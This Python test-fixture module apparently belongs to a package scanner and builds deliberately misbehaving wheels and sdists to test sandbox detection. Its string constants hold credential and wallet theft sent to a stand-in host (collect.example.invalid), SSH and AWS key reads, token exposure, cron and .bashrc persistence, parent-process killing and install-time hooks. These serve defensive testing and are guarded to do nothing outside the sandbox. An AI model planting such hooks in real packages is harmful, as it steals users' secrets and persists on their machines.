"""Distributions that behave badly when they run, for the tests of the dynamic look. Written by us; harmless everywhere.

Nothing here would do damage if the sandbox failed: addresses are those of documentation (RFC 5737), files that are read
or written are the sandbox's made-up ones (`guarded` ends the code anywhere else), loops and floods end by themselves.
"""

from __future__ import annotations

from wheelmark.scan import Sample

_GUARD = """import os, sys
if os.path.expanduser("~") != "/home/dev" or os.path.exists("/root"):
    sys.exit("not in the sandbox")
"""
_SETUP = "from setuptools import setup\nsetup(name='widget', version='1', py_modules=['widget'])\n"


def guarded(source: str) -> str:
    """Code that does nothing outside of the sandbox."""
    return _GUARD + source


def at_import(source: str) -> Sample:
    """A wheel that does this when imported."""
    return Sample.wheel({"widget/__init__.py": guarded(source), "widget/part.py": "VALUE = 1\n"})


def at_install(source: str) -> Sample:
    """An sdist that does this when installed."""
    return Sample.sdist({"setup.py": guarded(source) + _SETUP, "widget.py": "VALUE = 1\n"})


def at_startup(line: str) -> Sample:
    """A wheel that does this whenever the interpreter starts."""
    return Sample.wheel({"widget/__init__.py": "", "widget.pth": f"import os, sys; {line}\n"})


CONNECT = "import socket\ns = socket.socket()\ns.settimeout(1)\ns.connect_ex(('192.0.2.1', 443))\ns.close()\n"
LOOK_UP = "import socket\ntry:\n    socket.getaddrinfo('collect.example.invalid', 443)\nexcept OSError:\n    pass\n"
READ_KEY = "key = open(os.path.expanduser('~/.ssh/id_ed25519')).read()\n"
MISSING_FIRST = """import first_missing
from second_missing.part import Base, decorate
@decorate("x", y=1)
@first_missing.decorate
def function():
    return first_missing.VALUE
class Widget(Base, metaclass=type):
    value = function().of[0].any(kind="x")
with first_missing.session() as session:
    for each in session.get("x").json():
        print(each)
"""
POST_BY_MISSING = """import json, not_there
not_there.Client("https://docs.example.invalid/")
not_there.post("https://collect.example.invalid/x", data=dict(os.environ))
wallet = open(os.path.expanduser("~/.electrum/wallets/default_wallet")).read()
not_there.Session().send(bytes(1000) + wallet.encode())
"""
READ_RELATIVE = "os.chdir(os.path.expanduser('~'))\nos.chdir('.aws')\nopen('credentials').read()\n"
SHOW_TOKEN = "import subprocess\nsubprocess.run(['/bin/echo', os.environ['GITHUB_TOKEN']])\n"
ENCODE_TOKEN = (
    "import base64\nwith open('/tmp/out', 'wb') as out:\n"
    "    out.write(base64.b64encode(b'token=' + os.environ['PYPI_TOKEN'].encode()))\n"
)
CRONTAB = "try:\n    open('/var/spool/cron/crontabs/dev', 'w')\nexcept OSError:\n    open('/etc/cron.d/widget', 'a')\n"
PROFILE = "with open(os.path.expanduser('~/.bashrc'), 'a') as profile:\n    profile.write('# widget\\n')\n"
FORK_MANY = "import subprocess\nfor number in range(60):\n    subprocess.run(['/bin/true'])\n"
ENDLESS = "import time\nuntil = time.monotonic() + 120\nwhile time.monotonic() < until:\n    pass\n"
FLOOD = "for number in range(1 << 14):\n    sys.stdout.write('x' * (1 << 16))\n    sys.stdout.flush()\n"
HOLD_MEMORY = "import time\nheld = bytearray(400 << 20)\ntime.sleep(5)\n"
KILL_PARENT = "import signal, time\nos.kill(os.getppid(), signal.SIGKILL)\ntime.sleep(1)\n"
WAKE_PARENT = "import signal\nos.kill(os.getppid(), signal.SIGCONT)\n"
READ_PARENT = """kept_out = []
for name in ("mem", "environ", "fd"):
    place = f"/proc/{os.getppid()}/{name}"
    try:
        os.listdir(place) if name == "fd" else open(place, "rb").close()
    except OSError:
        kept_out.append(name)
sys.exit("kept out: " + " ".join(kept_out))
"""
UNSHARE = "import ctypes\nctypes.CDLL(None).unshare(0x10000000)\n"
DAEMON = (
    "import subprocess\nsubprocess.Popen([sys.executable, '-c', 'import time; time.sleep(30)'], "
    "start_new_session=True, stdout=subprocess.DEVNULL)\n"
)
DROP_AND_RUN = (
    "import subprocess\nwith open('/tmp/run-me', 'w') as script:\n    script.write('#!/bin/sh\\ntrue\\n')\n"
    "os.chmod('/tmp/run-me', 0o755)\nsubprocess.run(['/tmp/run-me'])\n"
)
DELETE_SELF = "os.remove(__file__)\n"
CURL = "import subprocess\nsubprocess.run('curl -s http://192.0.2.1/x', shell=True)\n"
LISTEN = "import socket\ns = socket.socket()\ns.bind(('127.0.0.1', 0))\ns.listen()\n"
LOOK_AROUND = (
    "from pathlib import Path\nseen = sorted(each.name for each in Path('/').iterdir())\n"
    "pids = sorted(each.name for each in Path('/proc').iterdir() if each.name.isdigit())\n"
    "sys.exit(' '.join([*seen, *pids]))\n"
)
FILL_SCRATCH = (
    "try:\n    for number in range(100):\n        with open(f'/tmp/{number}', 'wb') as out:\n"
    "            out.write(bytes(4 << 20))\nexcept OSError as error:\n    sys.exit(type(error).__name__)\n"
    "sys.exit('filled')\n"
)
